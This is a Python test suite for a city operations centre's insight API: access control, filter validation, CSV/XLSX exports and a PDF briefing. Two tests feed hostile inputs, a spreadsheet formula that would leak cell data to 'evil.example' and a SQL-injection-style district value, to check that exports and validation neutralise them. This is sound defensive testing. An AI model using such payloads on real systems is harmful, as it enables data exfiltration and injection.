"""The operations centre's API and pages: who may see them, filters checked with clear errors, the cases
behind a figure, and exports that open as CSV and XLSX."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import sqlalchemy as sa

from wecity.identity.models import users
from wecity.identity.service import start_session
from wecity.insight.rollup import consume

from ..conftest import City, make_client


def _token(city: City, username: str) -> dict[str, str]:
    token = city.db.write_sync(lambda c: start_session(c, c.execute(sa.select(users.c.id).where(
        users.c.username == username)).scalar_one(), city.clock.now()))
    return {"Authorization": f"Bearer {token}"}


def _history(city: City) -> None:
    from wecity.demo.history import seed_history

    city.db.write_sync(lambda c: seed_history(c, city.clock.now(), None, seed=5))
    while city.db.write_sync(lambda c: consume(c, now=city.clock.now())):
        pass


def test_who_may_see_the_kpis(city: City) -> None:
    with make_client(city) as client:
        for path in ("/api/v1/insight/kpis", "/api/v1/insight/figures", "/api/v1/insight/cases",
                     "/api/v1/insight/export.csv", "/api/v1/insight/loops"):
            assert client.get(path).status_code == 401, path
            for username in ("zhujian", "dispatcher"):  # a handler, a dispatcher: not leaders
                assert client.get(path, headers=_token(city, username)).status_code == 403, (path, username)
            for username in ("supervisor", "admin"):
                assert client.get(path, headers=_token(city, username)).status_code == 200, (path, username)
        assert client.get("/insight", follow_redirects=False).status_code in (302, 303)


def test_filters_are_checked_and_the_figures_follow_them(city: City) -> None:
    _history(city)
    leader = _token(city, "supervisor")
    with make_client(city) as client:
        kpis = client.get("/api/v1/insight/kpis", headers=leader).json()["kpis"]
        assert {"solved_rate", "resolution_rate", "recategorised", "returned"} <= {k["code"] for k in kpis}
        assert all(k["definition_zh"] and k["definition_en"] for k in kpis)
        whole = client.get("/api/v1/insight/figures", headers=leader).json()
        assert whole["level"] == "district" and whole["breakdown"]
        received = {k["code"]: k["value"] for k in whole["kpis"]}["received"]
        assert received == sum(r["received"] for r in whole["breakdown"]) > 100
        district = whole["breakdown"][0]["code"]
        one = client.get("/api/v1/insight/figures", params={"district": district}, headers=leader).json()
        assert one["level"] == "department" and {k["code"]: k["value"] for k in one["kpis"]}["received"] == \
            whole["breakdown"][0]["received"]
        # The cases behind a figure: the open ones of the district are the district's open figure.
        listed = client.get("/api/v1/insight/cases", params={"district": district, "which": "open"},
                            headers=leader).json()["cases"]
        assert len(listed) == one["open"]
        bad = client.get("/api/v1/insight/figures", params={"from": "2026-11-10", "to": "2026-11-01"},
                         headers=leader)
        assert bad.status_code == 400 and bad.json()["code"] == "insight.period"
        today = city.clock.now().date()
        too_long = client.get("/api/v1/insight/figures", params={
            "from": (today - timedelta(days=400)).isoformat(), "to": today.isoformat()}, headers=leader)
        assert too_long.status_code == 400 and too_long.json()["code"] == "insight.period"
        assert client.get("/api/v1/insight/figures", params={"channel": "pigeon"},
                          headers=leader).json()["code"] == "insight.channel"
        assert client.get("/api/v1/insight/figures", params={"district": "x'; drop"},
                          headers=leader).status_code == 400  # the platform answers validation as 400
        # Exports in the reader's language.
        as_csv = client.get("/api/v1/insight/export.csv", params={"table": "breakdown"},
                            headers={**leader, "Accept-Language": "zh-CN"})
        assert as_csv.status_code == 200 and as_csv.content.startswith("\ufeff".encode())
        table = list(csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig"))))
        assert table[0][:3] == ["代码", "名称", "受理量"] and len(table) == len(whole["breakdown"]) + 1
        as_xlsx = client.get("/api/v1/insight/export.xlsx", params={"table": "kpis"},
                             headers={**leader, "Accept-Language": "en"})
        from openpyxl import load_workbook

        sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
        assert sheet is not None and sheet["A1"].value == "code" and sheet.max_row == len(kpis) + 1
        assert client.get("/api/v1/insight/export.pdf", headers=leader).json()["code"] == "insight.format"


def test_the_page_keeps_the_filter_in_its_links(city: City) -> None:
    from ..web.conftest import log_in

    _history(city)
    with make_client(city) as client:
        log_in(client, "supervisor")
        page = client.get("/insight", params={"from": "2026-10-20", "to": "2026-10-26"},
                          headers={"Accept-Language": "zh-CN"})
        assert page.status_code == 200 and "考核指标" in page.text and "口径" in page.text
        assert "from=2026-10-20&amp;to=2026-10-26&amp;district=" in page.text  # drill-down links keep the period
        upside_down = client.get("/insight", params={"from": "2026-10-26", "to": "2026-10-20"})
        assert upside_down.status_code == 400 and "insight-kpis" in upside_down.text  # the default view, and why
        assert client.get("/insight/cases", params={"which": "overdue"}).status_code == 200
        log_in(client, "zhujian")
        assert client.get("/insight").status_code == 403


def test_docs_define_every_kpi() -> None:
    from pathlib import Path

    from wecity.insight.kpis import KPIS

    doc = (Path(__file__).parents[2] / "docs" / "insight.md").read_text(encoding="utf-8")
    for k in KPIS:
        assert f"`{k.code}`" in doc and k.name_zh in doc and k.definition_en in doc, k.code


def test_the_daily_briefing_says_the_day_s_figures_and_what_is_overdue(city: City, tmp_path: Any) -> None:
    import subprocess

    _history(city)
    leader = _token(city, "supervisor")
    with make_client(city) as client:
        assert client.get("/api/v1/insight/briefing.pdf").status_code == 401
        assert client.get("/api/v1/insight/briefing.pdf", headers=_token(city, "zhujian")).status_code == 403
        answer = client.get("/api/v1/insight/briefing.pdf", headers=leader)
        assert answer.status_code == 200 and answer.headers["content-type"] == "application/pdf"
        figures = client.get("/api/v1/insight/figures", params={
            "from": answer.headers["content-disposition"].split("briefing-")[1][:10],
            "to": answer.headers["content-disposition"].split("briefing-")[1][:10]}, headers=leader).json()
        overdue = client.get("/api/v1/insight/cases", params={"which": "overdue"}, headers=leader).json()["cases"]
    path = tmp_path / "briefing.pdf"
    path.write_bytes(answer.content)
    text = subprocess.run(["pdftotext", "-layout", str(path), "-"], capture_output=True, text=True,
                          check=True).stdout
    assert "每日简报" in text and "Daily briefing" in text
    received = next(k for k in figures["kpis"] if k["code"] == "received")
    assert "受理量 Cases received" in text and str(int(received["value"])) in text
    assert f"当前超期 Overdue now: {figures['overdue']}" in text
    assert overdue and f"#{overdue[0]['id']}" in text  # the most overdue case is named
    assert "Gi*" in text


def test_a_citizen_s_text_is_no_formula_in_an_export() -> None:
    """A description `=HYPERLINK(…)` stays text: in the CSV behind an apostrophe (as spreadsheet programs
    read it), in the XLSX as a string cell rather than a formula."""
    from zoneinfo import ZoneInfo

    from openpyxl import load_workbook

    from wecity.insight.exports import rows_of, to_csv, to_xlsx

    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击查看照片")'
    header, rows = rows_of("cases", [{"id": 7, "status": "dispatched", "description": evil},
                                     {"id": 8, "status": "dispatched", "description": "-5 度结冰，+86 电话"}],
                           "zh_CN", ZoneInfo("Asia/Shanghai"))
    table = list(csv.reader(io.StringIO(to_csv(header, rows).decode("utf-8-sig"))))
    assert table[1][-1] == "'" + evil and table[2][-1] == "'-5 度结冰，+86 电话"
    sheet = load_workbook(io.BytesIO(to_xlsx("cases", header, rows))).active
    assert sheet is not None
    cell = sheet.cell(row=2, column=len(header))
    assert cell.value == evil and cell.data_type == "s"


def test_a_cut_list_of_overdue_cases_holds_the_most_overdue(city: City) -> None:
    """More overdue cases than a list shows: the list is ordered by deadline before it is cut, so the most
    overdue are never the ones left out."""
    from datetime import date

    from wecity.insight import queries

    _history(city)
    now = city.clock.now()
    f = queries.Filters(date(2000, 1, 1), now.date())
    every = city.db.read_sync(lambda c: queries.case_list(c, f, now, which="overdue", limit=100_000))
    assert len(every) > 3
    first = city.db.read_sync(lambda c: queries.case_list(c, f, now, which="overdue", limit=3))
    assert [c["id"] for c in first] == [c["id"] for c in every[:3]]
    assert [c["due_at"] for c in first] == sorted(c["due_at"] for c in every)[:3]


def test_days_outside_any_city_s_figures_are_a_clear_error(city: City) -> None:
    from ..web.conftest import log_in

    leader = _token(city, "supervisor")
    with make_client(city) as client:
        for path, params in (("/api/v1/insight/figures", {"from": "0001-01-01", "to": "0001-01-05"}),
                             ("/api/v1/insight/cases", {"from": "9999-12-01", "to": "9999-12-31"}),
                             ("/api/v1/insight/briefing.pdf", {"day": "0001-01-01"})):
            answer = client.get(path, params=params, headers=leader)
            assert answer.status_code == 400 and answer.headers["content-type"].startswith("application/problem+json")
        log_in(client, "supervisor")
        assert client.get("/insight/briefing.pdf", params={"day": "0001-01-01"}).status_code == 200  # yesterday's
